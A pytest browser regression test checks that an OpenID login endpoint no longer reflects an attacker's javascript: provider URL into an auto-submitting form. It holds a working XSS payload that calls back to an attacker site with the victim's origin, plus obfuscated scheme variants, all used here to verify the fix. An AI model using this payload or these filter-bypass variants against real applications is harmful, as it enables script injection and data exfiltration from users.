"""OpenID reflected XSS, in a real headless Chromium: no script of the
attacker runs on the app's origin.

The attacker's identity page (a real local server) declares a
``javascript:`` provider endpoint. The victim's browser opens
``<app>/login/openid?id=<attacker page>``. Before the fix the app answered
with python3-openid's auto-submitting form whose ``action`` was that URL, and
Chromium ran it on the app's origin. The payload reports back to the
attacker's site (``/pwned?origin=...``), sets the title and raises an alert:
the test watches all three.

The control runs the same form from the attacker's own site: it shows the
payload does run in this Chromium, so "nothing ran" on the app is a real
observation.
"""
import time
from urllib.parse import quote

import pytest

from authomatic_extras.testing import LocalAppServer, ScriptedSite, make_flask_login_app

pytestmark = pytest.mark.browser

PAYLOAD = ("{scheme}fetch('{site}/pwned?origin='+encodeURIComponent(location.origin));"
           "document.title='XSS '+location.origin;alert(location.origin)")

FORM = ('<!DOCTYPE html><html><body onload="document.forms[0].submit();">'
        '<form action="{action}" method="post"><input type="hidden" name="a" value="b">'
        '</form></body></html>')


@pytest.fixture
def attacker():
    with ScriptedSite() as site:
        yield site


@pytest.fixture
def app_server(local_openid_server):
    app = make_flask_login_app({'openid': local_openid_server.config_entry(id=3)})
    with LocalAppServer(app, host='localhost') as served:
        yield served


def _watch(page):
    dialogs = []

    def on_dialog(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on('dialog', on_dialog)
    return dialogs


def _settle(site, page, seconds=2.0):
    deadline = time.time() + seconds
    while time.time() < deadline and not any(h.startswith('/pwned') for h in site.hits):
        page.wait_for_timeout(100)


def test_control_the_payload_runs_from_the_attackers_own_page(page, attacker, screenshots):
    action = PAYLOAD.format(scheme='javascript:', site=attacker.url).replace('"', '&quot;')
    url = attacker.page('/control', FORM.format(action=action))
    dialogs = _watch(page)
    page.goto(url)
    _settle(attacker, page)
    screenshots.take(page, 'control')
    assert any(h.startswith('/pwned') for h in attacker.hits), attacker.hits
    assert dialogs, 'the control payload raised no alert'


@pytest.mark.parametrize('scheme', ['javascript:', ' JavaScript:', 'java&#9;script:',
                                    'JAVASCRIPT:'])
def test_javascript_endpoint_never_runs_on_the_app_origin(page, attacker, app_server,
                                                          screenshots, scheme):
    endpoint = PAYLOAD.format(scheme=scheme, site=attacker.url).replace('"', '&quot;')
    identity = attacker.page('/me', '<html><head><link rel="openid2.provider" href="{0}">'
                                    '</head></html>'.format(endpoint))
    dialogs = _watch(page)
    page.goto(app_server.url + '/login/openid?id=' + quote(identity, ''))
    _settle(attacker, page)
    screenshots.take(page, 'after-login-step')
    assert attacker.hits == ['/me'], attacker.hits          # discovery only, no /pwned
    assert dialogs == []
    assert not page.title().startswith('XSS')
    assert page.url.startswith(app_server.url)
    assert 'OpenIDEndpointRefused' in page.content()
